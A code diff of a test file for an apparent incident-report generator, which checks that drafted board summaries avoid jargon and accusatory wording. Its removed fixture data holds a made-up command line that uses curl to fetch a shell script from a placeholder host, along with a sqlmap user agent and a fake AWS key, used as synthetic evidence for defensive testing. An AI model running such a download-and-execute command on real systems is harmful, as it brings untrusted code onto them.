@@ -1,21 +1,16 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { computeFacts } from '../../incident/facts/compute-facts.ts'
-import { fillTemplate } from '../../model/fill-template.ts'
-import type { Finding } from '../../model/finding.ts'
-import type { Harvest } from '../../model/harvest.ts'
 import type { Incident } from '../../model/incident.ts'
 import { incidentSchema } from '../../model/incident.ts'
-import type { Block, Inline } from '../../model/report.ts'
+import type { Block } from '../../model/report.ts'
 import { actOf } from '../../incident/draft/entries.ts'
-import { finding, harvest, session, time } from '../../incident/draft/made-up-harvest.ts'
 import { composeReport } from '../../report/compose.ts'
 import { findJargon, namesOf } from '../../report/register/jargon.ts'
 import { findSlips } from '../../report/register/slips.ts'
 import type { Rule } from '../../findings/sigma/rule.ts'
 import { readRules } from '../detecting/rules.ts'
-import { draftInto } from './draft-edits.ts'
-import { newRecord } from './draft-record.ts'
+import { blockTexts, draftedFrom, findingOf, harvests } from './made-up-drafts.ts'
 
 const boardSections = ['executive-summary', 'key-facts', 'immediate-actions-taken', 'top-recommendations']
 
@@ -23,100 +18,6 @@ let rules: readonly Rule[] = []
 beforeAll(async () => {
   rules = (await readRules()).rules
 })
-
-const values: Record<string, string[]> = {
-  'user.name': ['ci-deploy'],
-  'user.target.name': ['svc-metrics', 'svc-second'],
-  'source.ip': ['198.51.100.9'],
-  'host.name': ['bastion01'],
-  'event.action': ['GetSecretValue'],
-  'event.provider': ['secretsmanager.amazonaws.com'],
-  'error.code': ['AccessDenied'],
-  'cloud.account.id': ['111122223333'],
-  'process.command_line': ['/usr/bin/curl -s http://files.example.net/u.sh'],
-  'url.path': ['/deploy/.env'],
-}
-
-/** A finding of a rule that ships, as reading evidence would give it. */
-function findingOf(rule: Rule, parts: { count: number; outcome: string; isNamed: boolean; at: string }): Finding {
-  const known = parts.isNamed ? values : {}
-  const story = rule.story
-  const failed = parts.outcome === 'failure'
-  const template = (failed ? (story?.failed ?? story?.one) : story?.one) ?? 'An event.'
-  const base = finding({ id: rule.id, sessions: ['away'], count: parts.count, outcome: parts.outcome, at: parts.at })
-  return {
-    ...base,
-    rule: { id: rule.id, hash: rule.hash, title: rule.title, level: rule.level, ...(story === undefined ? {} : { story }) },
-    techniques: rule.techniques,
-    tactics: rule.tactics,
-    key: { 'event.outcome': parts.outcome },
-    values: known,
-    left: story?.leaves === undefined || failed ? [] : ['snap-0f3e9a7712c4d5b68', 'svc-metrics'],
-    examples: base.examples.map((example) => ({ ...example, sentence: fillTemplate(template, (name) => known[name]?.[0]) })),
-  }
-}
-
-function draftedFrom(found: Harvest): Incident {
-  return draftInto(newRecord('INC-2026-0001'), found, { author: 'Hindcast', at: '2026-03-06T00:00:00Z' }).state.document
-}
-
-/** Harvests with one, two or many findings of the rules that ship, some answered, some refused, some in doubt. */
-function harvests(): (readonly [string, Harvest])[] {
-  const away = session({ id: 'away', user: 'ci-deploy', address: '198.51.100.9', agent: 'sqlmap/1.8', credential: 'AKIAEXAMPLE12345' })
-  const home = session({ id: 'home', count: 400, first: time('2026-02-01T10:00:00Z') })
-  const some = (choose: (rule: Rule, index: number) => boolean, outcome: (index: number) => string): Finding[] =>
-    rules
-      .filter((rule) => rule.story !== undefined)
-      .filter(choose)
-      .map((rule, index) => {
-        const made = findingOf(rule, {
-          count: [1, 2, 41][index % 3] ?? 1,
-          outcome: outcome(index),
-          isNamed: index % 5 !== 0,
-          at: `2026-03-0${(index % 7) + 1}T10:${10 + (index % 40)}:00Z`,
-        })
-        return rule.story?.role === 'response' ? { ...made, sessions: ['home'] } : made
-      })
-  const all: [string, Finding[]][] = [
-    ['nothing', []],
-    ...[0, 1, 2, 3, 5, 8, 13].map((skip): [string, Finding[]] => [
-      `every ${skip + 1}th rule`,
-      some(
-        (_, index) => index % (skip + 1) === 0,
-        () => 'success',
-      ),
-    ]),
-    [
-      'one rule',
-      some(
-        (_, index) => index === 20,
-        () => 'success',
-      ),
-    ],
-    [
-      'only refusals',
-      some(
-        (_, index) => index % 4 === 0,
-        () => 'failure',
-      ),
-    ],
-    [
-      'successes and refusals',
-      some(
-        () => true,
-        (index) => (index % 2 === 0 ? 'success' : 'failure'),
-      ),
-    ],
-    [
-      'only responses',
-      some(
-        (rule) => rule.story?.role === 'response',
-        () => 'success',
-      ),
-    ],
-  ]
-  return all.map(([name, findings]) => [name, harvest({ sessions: [home, away], findings })] as const)
-}
 
 /** The texts of some sections of a report, one for each paragraph, item and cell. */
 function textsOf(blocks: readonly Block[], sections: readonly string[]): string[] {
@@ -127,15 +28,6 @@ function textsOf(blocks: readonly Block[], sections: readonly string[]): string[
   })
 }
 
-function blockTexts(block: Block): string[] {
-  const words = (content: readonly Inline[]): string =>
-    content.map((inline) => (inline.kind === 'text' || inline.kind === 'link' ? inline.text : inline.kind === 'break' ? '\n' : '')).join('')
-  if (block.kind === 'paragraph') return [words(block.content)]
-  if (block.kind === 'list') return block.items.map(words)
-  if (block.kind === 'table') return block.rows.flatMap((row) => row.map(words))
-  return []
-}
-
 function summaryOf(document: Incident): string[] {
   const report = composeReport(document, computeFacts(document), { version: '1', head: 'ab'.repeat(32), program: 'Hindcast' })
   return textsOf(report.blocks, boardSections)
@@ -143,7 +35,7 @@ function summaryOf(document: Incident): string[] {
 
 describe('the summary of a drafted report', () => {
   it('speaks to a board, whatever was found', () => {
-    for (const [name, found] of harvests()) {
+    for (const [name, found] of harvests(rules)) {
       const document = draftedFrom(found)
       const texts = summaryOf(document)
       expect(texts.length, name).toBeGreaterThan(10)
@@ -152,7 +44,7 @@ describe('the summary of a drafted report', () => {
   })
 
   it('is written without a slip', () => {
-    for (const [name, found] of harvests()) {
+    for (const [name, found] of harvests(rules)) {
       for (const text of summaryOf(draftedFrom(found)).flatMap((one) => one.split('\n'))) {
         expect({ name, text, slips: findSlips(text.trim()) }).toEqual({ name, text, slips: [] })
       }
@@ -160,7 +52,7 @@ describe('the summary of a drafted report', () => {
   })
 
   it('names no culprit and claims no theft', () => {
-    for (const [name, found] of harvests()) {
+    for (const [name, found] of harvests(rules)) {
       const told = summaryOf(draftedFrom(found)).join('\n')
       expect(told, name).not.toMatch(/stolen|exfiltrated|was taken|nothing was taken|hacker|criminal|insider|threat actor/i)
       expect(told, name).not.toMatch(/ci-deploy|svc-metrics|alice/)
